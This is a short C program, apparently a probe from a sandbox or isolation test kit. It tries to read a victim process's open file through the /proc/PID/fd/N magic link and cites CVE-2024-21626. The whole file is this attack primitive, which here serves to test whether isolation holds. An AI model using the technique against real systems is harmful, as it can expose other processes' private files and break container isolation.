// tries: to open a file again through another process's descriptor
// works: /proc/PID/fd/N is a magic link
// see: proc(5); CVE-2024-21626
// goal: read
#include "../kit.h"

int main(void)
{
	char way[64];

	snprintf(way, sizeof(way), "/proc/%ld/fd/%ld", number("VICTIM"), number("VICTIM_FD"));
	return print_file(way);
}
